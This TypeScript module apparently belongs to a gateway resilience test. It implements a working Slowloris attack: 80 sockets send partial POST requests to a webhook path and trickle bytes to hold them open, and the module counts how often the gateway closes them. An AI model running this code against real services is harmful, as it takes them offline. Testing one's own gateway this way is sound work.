import { setTimeout as sleep } from 'node:timers/promises';
import { hookPath, openSocket, type Target } from './target.js';

const sockets = 80;
const least = 400;
const betweenBytesMs = 300;

export interface Stalls {
  opened: number;
  /** Ours never end one. */
  closedByGateway: number;
  /** How long one could be held. */
  longestMs: number;
}

/**
 * Slowloris: connections on which a byte comes now and then. Half of them stall in the head, the others, with the true secret, in the body.
 *
 * @param secret the true one, as soon as it is known
 */
export async function stall(
  target: Target,
  secret: () => string | undefined,
  stopped: AbortSignal,
): Promise<Stalls> {
  const stalls: Stalls = { opened: 0, closedByGateway: 0, longestMs: 0 };

  async function holdOne(isInBody: boolean): Promise<void> {
    const opening = await openSocket(target);
    if (opening === undefined) return;
    const { socket, closed } = opening;
    const opened = performance.now();
    stalls.opened += 1;
    socket.resume();
    const head = `POST ${hookPath} HTTP/1.1\r\nHost: gateway\r\n`;
    const toBody = `Authorization: ${secret() ?? ''}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`;
    socket.write(head + (isInBody ? toBody : 'X-Slow: '));
    while (!socket.destroyed) {
      await Promise.race([closed, sleep(betweenBytesMs)]);
      if (socket.writable) socket.write(' ');
    }
    stalls.closedByGateway += 1;
    stalls.longestMs = Math.max(stalls.longestMs, Math.round(performance.now() - opened));
  }

  const holders = Array.from({ length: sockets }, async (_, at) => {
    while (!stopped.aborted || stalls.opened < least) {
      await holdOne(at % 2 === 1 && secret() !== undefined);
    }
  });
  await Promise.all(holders);
  return stalls;
}
